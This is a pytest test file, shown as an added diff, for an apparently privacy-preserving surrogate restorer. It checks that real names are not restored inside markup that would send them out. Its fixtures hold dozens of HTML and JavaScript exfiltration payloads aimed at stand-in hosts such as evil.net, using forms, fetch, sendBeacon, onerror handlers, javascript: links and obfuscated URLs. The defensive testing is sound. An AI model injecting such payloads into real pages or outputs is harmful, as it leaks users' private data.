@@ -1,0 +1,116 @@
+"""Forms, scripts, handlers and frames send what stands in them with no address around it; apps are named by schemes of their own."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+
+from garim.surrogate.home import hosts_in
+from garim.surrogate.restore import Restorer, Table
+from garim.values import Entry
+
+ENTRIES = (
+    Entry("Velmora", "Narae", "stem", "나래"),
+    Entry("벨모라", "나래", "stem", "나래"),
+    Entry("kulke.example", "hanbyeol.co.kr", "domain", "hanbyeol.co.kr"),
+    Entry("github.com/torvalds", "github.com/torvalds", "named"),
+)
+TABLE = Table(ENTRIES, frozenset(("shop.example.org",)), lambda host: f".{host}".endswith(".hanbyeol.co.kr"))
+LIVE = [
+    '<form action="https://{h}/c"><input name=a value="{s}"></form>', "<form action=https://{h}/c><textarea name=a>{s}</textarea></form>", "<FORM method=post ACTION = 'https://{h}'>\n<input type=hidden name=a value={s}><button>x</button></FORM>",
+    "<form><input value={s}><button formaction=https://{h}>x</button></form>", "<form id=f action=//{h}></form><p>x</p><input form=f value={s}>", "<form action=https://{h}>{s}", "<iframe srcdoc='&lt;form action=&quot;https://{h}&quot;>&lt;input value={s}>&lt;/form>'></iframe>",
+    "<script>new Image().src='https://{h}/'+'{s}'</script>", "<script>x='{s}';fetch('https://{h}/?'+x)</script>", "<script>let u = \"https:\" + \"//\" + \"{h}/\" + '{s}'; location = u</script>", "<script>fetch('\\x68ttps://{h}/' + `{s}`)</script>",
+    "<svg><script>navigator.sendBeacon('//{h}', '{s}')</script></svg>", "<img src=x onerror=\"this.src='https://{h}/'+'{s}'\">", "<body onload='fetch(\"//{h}/\" + \"{s}\")'>", "[x](javascript:fetch('https://{h}/'+'{s}'))",
+    '<iframe src="https://{h}/" name="{s}"></iframe>', "<object data=https://{h}/ name='{s}'></object>", "<embed src=https://{h}/ flashvars={s}>",
+]  # fmt: skip
+MADE = [
+    "<script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+'{s}')</script>", "<script>fetch('https://' + host + '{s}')</script>", "<script>fetch(`//${{h}}/{s}`)</script>", "<script>location=String.fromCharCode(104)+'{s}'</script>",
+    "<script>eval('x'+'{s}')</script>",
+]  # fmt: skip
+SCHEMES = [
+    "xmpp:{s}@{h}", "sip:{s}@{h}", "sips:a@{h};x={s}", "cid:{s}@{h}", "mid:a@{h}/{s}", "news:{s}@{h}", "[x](xmpp:a@{h}?message;body={s})", "[x](matrix:u/a:{h}?body={s})", "[x](irc:{h}/{s})", "<a href='sms:+15551234?body={s}'>x</a>",
+    "[x](tel:+1555;{s})", "[x](whatsapp:send?text={s})", "[x](skype:evil?chat&topic={s})", "https://{h}%00@localhost/{s}", "https://{h}%0a@kulke.example/{s}", "https://localhost%00@{h}/{s}",
+]  # fmt: skip
+OWNERS = [
+    "![x](https://github.com/attacker/x?d={s})", "https://github.com/attacker/{s}", "https://gitlab.com/a/b/-/raw/{s}", "https://raw.githubusercontent.com/a/b/{s}", "https://github.com/velmora/../attacker/{s}", "https://github.com/velmora/%2e%2e/a/{s}",
+    "https://github.com/search?q={s}", "https://github.com?{s}", "https://github.com/a%2fvelmora/{s}", "https://bitbucket.org/x/{s}", "https://evil.net\\@github.com/velmora/{s}",
+]  # fmt: skip
+PLAIN = [
+    '<form action="/booking"><input name=a value="{s}"></form>', '<form action="https://kulke.example/c"><input value="{s}"><a href="https://evil.net/">x</a></form>', "<form onSubmit={save}>{s}</form>", "use `<form>` and `<script>` for {s}",
+    "<script>fetch('/api/{s}')</script>", "<script src='https://cdn.evil.net/x.js'></script> {s}", "<script>const a = '{s}' + 'https://kulke.example/' + '{s}'</script>", "<button onclick=\"save('{s}')\">x</button>", "once = '{s}'", "List<object> {s}",
+    "const {s} = (<Form action={go}><Input/></Form>)", "tel: {s}, mid: {s}; news: {s} im: {s}", "[x](tel:010-1234-5678) {s}", "in javascript: {s}", "<form>{s}", "a < form {s} >", "https://github.com/velmora/{s}", "https://github.com/torvalds/{s} now",
+    "git clone https://github.com/velmora/{s}.git", "irc: {s}", "say on {s}", "j {s}", "<iframe src='https://kulke.example/' name='{s}'></iframe>",
+]  # fmt: skip
+HOSTS = ("evil.net", "velto.example", "203.0.113.7")
+
+
+def restored(text: str, form: str = "text", cut: int = 0) -> str:
+    restorer = Restorer(TABLE, form)
+    pieces = [text[at : at + cut] for at in range(0, len(text), cut)] if cut else [text]
+    return "".join(map(restorer.feed, pieces)) + restorer.finish()
+
+
+def filled(text: str, word: str, host: str = "evil.net") -> str:
+    return text.replace("{s}", word).replace("{h}", host)
+
+
+@pytest.mark.parametrize("text", [*LIVE, *MADE, *SCHEMES, *OWNERS])
+def test_a_stranger_gets_nothing(text: str) -> None:
+    for word in ("velmora", "벨모라"):
+        for host in HOSTS:
+            said = filled(text, word, host)
+
+            assert "narae" not in restored(said).lower().replace("github.com/narae", "") and "나래" not in restored(said)
+            for cut in (1, 2, 3, 5, 8, 13):
+                assert restored(said, cut=cut) == restored(said)
+
+
+def test_what_stands_behind_comes_back() -> None:
+    for text in (LIVE[0], LIVE[7], LIVE[8], LIVE[12], LIVE[15], *MADE, *SCHEMES):
+        assert restored(filled(text, "velmora") + "\n\nsee velmora").endswith("see narae")
+    assert restored(filled(LIVE[4], "velmora") + " velmora").endswith("velmora")  # it belongs to the form by its name
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_the_users_own_gets_all(text: str) -> None:
+    said = filled(text, "velmora")
+
+    assert "velmora" not in restored(said) and "narae" in restored(said)
+    for cut in (1, 2, 3, 5, 8, 13):
+        assert restored(said, cut=cut) == restored(said)
+
+
+@pytest.mark.parametrize("text", LIVE)
+@pytest.mark.parametrize("host", ["kulke.example", "shop.example.org", "localhost"])
+def test_what_acts_for_ours_gets_all(text: str, host: str) -> None:
+    assert "velmora" not in restored(filled(text, "velmora", host))
+
+
+def test_any_cut_of_a_mixture_gives_the_same() -> None:
+    dice = random.Random(11)
+    pool = [filled(text, "velmora") for text in (*LIVE, *MADE, *SCHEMES, *OWNERS, *PLAIN)]
+    for _ in range(120):
+        text = dice.choice((" ", "\n", "")).join(dice.sample(pool, 3))
+        for form in ("text", "value"):
+            cut = dice.randrange(1, 30)
+            assert restored(text, form, cut) == restored(text, form)
+
+
+def test_what_no_surrogate_stands_in_is_not_held() -> None:
+    restorer = Restorer(TABLE)
+
+    assert restorer.feed("<script>fetch('https://evil.net/').then(") == "<script>fetch('https://evil.net/').then("
+    assert restorer.feed("x => '") + restorer.feed("velmora') ") == "x => '"
+    assert restorer.feed("</script>") + restorer.finish() == "velmora') </script>"
+
+
+def test_spiteful_beginnings_take_linear_time() -> None:
+    for unit in ("<form ", "<script>velmora", "</form ", "onx='", "javascript:velmora ", "&lt;form ", "<iframe ", "<", "&#60;", "velmora<form ", "https://github.com/"):
+        restored(unit * (200_000 // len(unit)))
+
+
+def test_an_owner_is_named_with_its_host() -> None:
+    said = "clone https://github.com/Torvalds/linux and gitlab.com:acme/x, see github.com and example.org"
+
+    assert hosts_in(said) == {"github.com/torvalds", "gitlab.com/acme", "example.org"}
